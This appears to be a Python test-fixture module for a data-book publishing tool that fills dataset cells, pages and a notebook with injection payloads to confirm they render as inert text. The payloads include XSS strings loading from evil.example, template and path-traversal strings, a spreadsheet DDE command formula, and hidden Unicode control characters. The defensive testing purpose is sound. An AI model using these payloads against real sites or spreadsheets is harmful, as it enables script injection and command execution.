"""Text that would be something else than words, wherever it is not kept from it.

What runs sets `window.canary`, what is loaded comes from `evil.example`, and what becomes an
element carries the attribute `data-canary`: a test looks for all three.
"""

import json
import shutil

import nbformat
import small
import yaml
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from clashbook import config
from clashbook.pipeline.edition import Edition

# A word that nothing else in the book has, to search for.
WORD = "Wolpertinger"
RUN = "window.canary=1"
# What `clashbook check` refuses outright: the cell, and what it is said to be.
REFUSED = {
    "formula": ("=1+1", "begins like a spreadsheet formula"),
    "link as a formula": ('=HYPERLINK("//evil.example")', "begins like a spreadsheet formula"),
    "command as a formula": ("+cmd|' /C calc'!A0", "begins like a spreadsheet formula"),
    "sum": ("@SUM(A1)", "begins like a spreadsheet formula"),
    "minus": ("-1+1", "begins like a spreadsheet formula"),
    "terminal colour": ("red \x1b[31malert", "holds the invisible U+001B"),
    "null": ("nothing\x00more", "holds the invisible U+0000"),
    "line": ("one line\nand another", "holds the invisible U+000A"),
    "carriage return": ("one line\r\nand another", "holds the invisible U+000D"),
    "tab": ("\t=1+1", "holds the invisible U+0009"),
    "right to left": ("killed \u202e05", "holds the invisible U+202E"),
    "isolate": ("killed \u20665\u2069", "holds the invisible U+2066"),
    "zero width": ("kil\u200bled", "holds the invisible U+200B"),
    "soft hyphen": ("kil\u00adled", "holds the invisible U+00AD"),
    "private use": ("kil\ue000led", "holds the invisible U+E000"),
    "line separator": ("one\u2028two", "holds the invisible U+2028"),
    "space before": (" killed", "begins or ends with a space"),
    "space behind": ("killed\u00a0", "begins or ends with a space"),
}  # fmt: skip
# What is text like any other, and must stay it.
ALLOWED = (
    f"<script data-canary>{RUN}</script>",
    f'</script><script data-canary src="https://evil.example/a.js">{RUN}</script>',
    f'<img data-canary src=x onerror="{RUN}">',
    f"<svg data-canary onload={RUN}><title>x</title></svg>",
    '"><iframe data-canary src="https://evil.example/"></iframe>',
    f"' onmouseover='{RUN}' \" onfocus=\"{RUN}\" autofocus data-canary",
    "</textarea></title></style></table><b data-canary>bold</b>",
    f"<!-- --><a data-canary href=javascript:{RUN}>x</a>",
    "[words](javascript:window.canary=1)",
    "![picture](https://evil.example/p.png)",
    "**bold** _thin_ `code` ~~struck~~ # heading",
    "{number}`as-of` {claim}`first` {download}`evil` {raw:html}`<b data-canary>`",
    ":::{raw} html <b data-canary>bold</b> ::: ```{include} ../../etc/passwd ```",
    "{{ 7 * 7 }} {% include 'x' %} {#- x -#} ${7*7} <%= 7*7 %>",
    f"javascript:{RUN} data:text/html,<b>x</b> vbscript:x",
    "../../../../etc/passwd ..\\..\\windows",
    f"$x^2$ \\( \\alpha \\) $$\\require{{html}}\\href{{javascript:{RUN}}}{{x}}$$ $1 and $2",
    "\\input{x} \\textbf{b} % & _ ^ ~ # { } TY  - END @article{x, title={y}}",
    "| cell | cell | \\| &lt;b&gt; &amp; &#60; %3Cb%3E \\u003cb\\u003e",
    "https://evil.example/page www.evil.example <https://evil.example>",
    "A" * 160,
)
# Short ones for names, which are drawn and stand in many places.
NAMES = (
    f'<img data-canary src=x onerror="{RUN}"> $x_1$',
    f"**</script><script data-canary>{RUN}</script>**",
    f"[A](javascript:{RUN}) {{{{ 7*7 }}}}",
    "\"><b data-canary onclick='x'>B</b> _$&",
    "../..\\ `{raw}` %s {0} <!-- \\alpha",
)
# Columns whose parts a semicolon sets apart.
LISTED = ("names", "aliases", "author")
SHORT = {
    **{"actors": ("name",), "indicators": ("label",), "stances": ("label",)},
    **{"episodes": ("name",), "places": ("names",)},
    "sources": ("publisher", "author", "title"),
}
NAMED = (
    *("claimant", "speaker", "addressed_to", "aliases", "origin", "licence", "gazetteer"),
    *("party_is", "vintage", "standpoint"),
)
NOT_TEXT = (
    "unit",
    "other_units",
    "country",
    "period",
    "extent",
    "locator",
    "includes",
    "url",
    "gazetteer_id",
    "language",
    "archived_url",
    "choice",
    "value",
    "version",
    "moved",
)


def columns(table):
    """The columns of a table that take any words."""
    schema = next(each["schema"] for each in small.PACKAGE["resources"] if each["name"] == table)
    keys = {name for key in schema.get("foreignKeys", []) for name in _listed(key["fields"])}
    keys |= {*_listed(schema.get("primaryKey", [])), *NOT_TEXT}
    return [
        field["name"]
        for field in schema["fields"]
        if field["type"] == "string"
        and "enum" not in field.get("constraints", {})
        and field["name"] not in keys
        and not field["name"].endswith("_id")
    ]


def words(at, room=10_000):
    """All that is allowed and has room, in a row of its own: each begins with another."""
    turn, end = at % len(ALLOWED), f"{WORD} {at}."
    taken = []
    for each in [*ALLOWED[turn:], *ALLOWED[:turn]]:
        if len(" ".join([*taken, each, end])) <= room:
            taken.append(each)
    return " ".join([*taken, end])


def room(table, column):
    """How many characters a cell of a column may have."""
    schema = next(each["schema"] for each in small.PACKAGE["resources"] if each["name"] == table)
    (field,) = [each for each in schema["fields"] if each["name"] == column]
    return field.get("constraints", {}).get("maxLength", 10_000)


def name(at):
    return f"{NAMES[at % len(NAMES)]} {at}"


def tables():
    """The small dataset, every cell that takes words full of them."""
    rows, at = small.tables(), 0
    # An edition knows those actors alone that some row names.
    rows["reactions"].append(small.reaction("french", actor_id="FRA", claimant="France"))
    for table, lines in rows.items():
        for column in columns(table):
            for line in lines:
                at += 1
                text = (
                    name(at) if column in SHORT.get(table, ()) else words(at, room(table, column))
                )
                # A name takes one space at a time, or two could look the same.
                text = text.replace("  ", " ") if column in NAMED else text
                line[column] = text.replace(";", ",") if column in LISTED else text
    return rows


def project(root, source, rows=None):
    """Write a project of its own: the data, a page for each directive, and one notebook.

    Parameters
    ----------
    root, source : Path
        Where it goes, and the project whose settings and styles it takes.
    rows : dict of list of dict, optional
        The data by table; by default `tables()`.
    """
    small.write(root / "data", tables() if rows is None else rows)
    package = json.loads((root / "data" / "datapackage.json").read_text(encoding="utf-8"))
    for part in [package, *package["resources"]] if rows is None else []:
        part["description"] = words(0)
    (root / "data" / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    shutil.copytree(source / "book" / "_static", root / "book" / "_static")
    settings = yaml.safe_load((source / "_config.yml").read_text(encoding="utf-8"))
    settings["clashbook"] |= {"notebooks": {}, "redirects": {}, "cut": {}, "title": "Small book"}
    (root / "_config.yml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    for file in ("requirements.txt", "LICENSE", "LICENSE-data"):
        (root / file).write_text("As in the book.\n", encoding="utf-8")
    for page, text in PAGES.items():
        title = f"# {page.capitalize()}\n\n"
        (root / "book" / f"{page}.md").write_text(f"{title}{text}\n", encoding="utf-8")
    chapters = [{"file": page} for page in [*PAGES, "chapter"] if page != "index"]
    contents = {"format": "jb-book", "root": "index", "chapters": chapters}
    (root / "book" / "_toc.yml").write_text(yaml.safe_dump(contents), encoding="utf-8")
    (root / "notebooks").mkdir()
    save(root, notebook(*CELLS))
    return Edition(config.read(root), root / "data", root / "site")


def notebook(*cells):
    """A notebook that reads everything; what opens with ``#`` and a space is prose."""
    made = [
        new_code_cell('data_dir = ""\nas_of = ""', metadata={"tags": ["parameters"]}),
        *(new_markdown_cell(cell) if cell.startswith("# ") else new_code_cell(cell)
          for cell in ("# Chapter", SETUP, *cells)),
    ]  # fmt: skip
    reads = {"tables": list(small.FIELDS), "domains": ["casualties", "economy"]}
    kernel = {"name": "python3", "language": "python", "display_name": "Python 3"}
    return new_notebook(cells=made, metadata={"kernelspec": kernel, "clashbook": reads})


def save(root, content):
    nbformat.write(content, root / "notebooks" / "chapter.ipynb")


RULES = "\n\n".join(f"(rule-{at})=\n## Rule {name}" for at, name in enumerate("abcdefghijklm", 1))
PAGES = {
    "index": "As known on {number}`as-of`: {claim}`first`, {source}`paper`, {reaction}`calm`.\n\n"
             "```{exhibit} said\n```",
    "claims": "```{claims-table}\n```\n\n## Numbers\n\n```{numbers-table}\n```",
    "data": "## Tables\n\n```{codebook}\n```\n\n## Downloads\n\n```{downloads}\n```\n\n"
            "## Rows\n\n```{events-table}\n```\n\n```{reactions-table}\n```\n\n"
            "```{episodes-table}\n```\n\n```{stances-table}\n```\n\n"
            "```{indicators-table}\n```\n\n```{actors-table}\n```",
    "sources": "```{sources-table}\n```\n\n```{leanings-by-claimant}\n```\n\n"
               "```{leanings-by-source}\n```",
    "conflicts": "```{disagreements}\n```\n\n## Accounts\n\n"
                 ":::{disagreement} Two counts\n---\nname: two-counts\n"
                 "rows: |\n  first\n  other-side\n  shells\n  calm\nrules: 5\n---\nWords.\n:::",
    "elsewhere": "```{elsewhere-table}\n```",
    "corrections": "```{corrections-table}\n```",
    "exhibits": "```{gallery}\n```",
    "cite": "```{cite-edition}\n```",
    "methods": RULES,
}  # fmt: skip
SETUP = """import clashbook
from clashbook.analysis import casualties, reactions, timeline
from clashbook.figures import charts
book = clashbook.open(data_dir, as_of)
data = book.data"""
CELLS = (
    """words = data.actors.name[0] + " Wolpertinger"
told = dict(title=f"Drawn: {words}", subtitle=f"By {words}", note=words, alt=f"Of {words}")
frame = casualties.by_episode(data, list(data.episodes.episode_id), "killed", book.focus)
book.figure("drawn", charts.range_bars, frame, **told)""",
    """book.figure("days", charts.timeline, timeline.drawn(data, book.focus), **told)""",
    """said = data.claims[["claimant", "note"]].assign(claims=data.claims.claim_id)
book.table("said", said, **told,
        columns={"claimant": f"Who {words}", "note": "Note"})""",
)


def _listed(names):
    return [names] if isinstance(names, str) else names
